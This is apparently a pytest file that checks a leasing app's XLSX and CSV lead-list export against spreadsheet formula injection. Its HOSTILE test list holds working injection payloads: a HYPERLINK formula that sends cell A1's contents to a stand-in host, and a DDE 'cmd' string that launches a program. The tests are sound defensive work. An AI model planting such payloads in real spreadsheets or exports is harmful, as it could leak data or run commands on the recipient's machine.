"""The lead list as XLSX: read back with calamine (a Rust reader, independent of openpyxl) and as raw
sheet XML: hostile text is a text cell, never a formula; real numbers stay numbers."""

from __future__ import annotations

import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from leaselab_desktop.domain.listing import LEAD_LIST, LeadRows, shown_columns
from leaselab_desktop.domain.models import Lead
from leaselab_desktop.reports.spreadsheet import lead_list_table, write_csv_file, write_xlsx

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-1+1",
           "\t=1+1", "\r=1+1", "=1+1"]


def _read(path: Path) -> list[list[object]]:
    book = CalamineWorkbook.from_path(str(path))
    return book.get_sheet_by_index(0).to_python()


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_hostile_text_is_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    rows = [[text, -42, -1.5, 7] for text in HOSTILE]
    out = write_xlsx(tmp_path / "leads.xlsx", ["Name", "Negative", "Fraction", "Score"], rows)
    got = _read(out)
    assert got[0] == ["Name", "Negative", "Fraction", "Score"]
    for want, row in zip(HOSTILE, got[1:], strict=True):
        assert isinstance(row[0], str)
        # XML normalises a carriage return to a line feed; the text is otherwise kept as typed
        assert row[0] == want.replace("\r", "\n")
        assert row[1:] == [-42, -1.5, 7] and all(isinstance(v, int | float) for v in row[1:])
    xml = _sheet_xml(out)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    assert xml.count('t="n"') == 3 * len(HOSTILE)


def test_quote_prefix_marks_formula_like_text(tmp_path: Path) -> None:
    out = write_xlsx(tmp_path / "q.xlsx", ["A"], [["=SUM(1)"], ["Ana"]])
    with zipfile.ZipFile(out) as z:
        styles = z.read("xl/styles.xml").decode()
    assert 'quotePrefix="1"' in styles  # Excel shows it as typed and keeps it text when edited


def test_control_characters_are_dropped_not_fatal(tmp_path: Path) -> None:
    out = write_xlsx(tmp_path / "c.xlsx", ["A"], [["Ana\x00\x07 Lee"], [None]])
    assert _read(out)[1] == ["Ana Lee"]


def test_suffix_is_added_and_a_failed_write_leaves_nothing(tmp_path: Path) -> None:
    assert write_xlsx(tmp_path / "list", ["A"], [[1]]).name == "list.xlsx"
    with pytest.raises(FileNotFoundError):
        write_xlsx(tmp_path / "missing" / "x.xlsx", ["A"], [[1]])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["list.xlsx"]


def _leads() -> list[Lead]:
    return [
        Lead(id="l1", first_name="=cmd", last_name="Lee", email="a@example.com", status="ai_evaluated",
             ai_score=71, ai_label="B", property_name="Maple Court", unit_name="2B",
             updated_at=datetime.fromisoformat("2026-11-25T20:35:00+00:00")),
        Lead(id="l2", first_name="Bo", last_name="Ng", email="b@example.com", status="new"),
    ]


def test_the_table_has_the_lists_columns(tmp_path: Path) -> None:
    header, table = lead_list_table(LeadRows.from_leads(_leads()))
    titles = [s.title for s, _ in shown_columns(LEAD_LIST)]
    assert header[:3] == ["Lead id", "Name", "Email"]
    assert [h.removesuffix(" (UTC)") for h in header[3:]] == [t for t in titles if t != "Name"]
    first = dict(zip(header, table[0], strict=True))
    assert first["Status"] == "AI evaluated" and first["AI score"] == 71 and first["Label"] == "B"
    assert first["Property / unit"] == "Maple Court · 2B"
    assert first["Updated (UTC)"] == datetime(2026, 11, 25, 20, 35)
    assert dict(zip(header, table[1], strict=True))["AI score"] is None

    xlsx = _read(write_xlsx(tmp_path / "l.xlsx", header, table))
    assert xlsx[1][1] == "=cmd Lee" and xlsx[1][header.index("AI score")] == 71
    assert xlsx[1][header.index("Updated (UTC)")] == datetime(2026, 11, 25, 20, 35)
    csv_text = write_csv_file(tmp_path / "l.csv", header, table).read_text(encoding="utf-8-sig")
    assert "'=cmd Lee" in csv_text and csv_text.startswith("Lead id,Name,Email")


def test_every_row_once_with_fitted_columns_and_frozen_titles(tmp_path: Path) -> None:
    rows = [[f"lead_{i}", "Marc-André Lévesque" if i == 3 else "Ana", i] for i in range(450)]
    out = write_xlsx(tmp_path / "many.xlsx", ["Lead id", "Name", "N"], rows)
    got = _read(out)
    assert len(got) == 451 and [r[0] for r in got[1:]] == [f"lead_{i}" for i in range(450)]
    xml = _sheet_xml(out)
    assert 'state="frozen"' in xml and '<col width="21"' in xml  # "Marc-André Lévesque" + 2
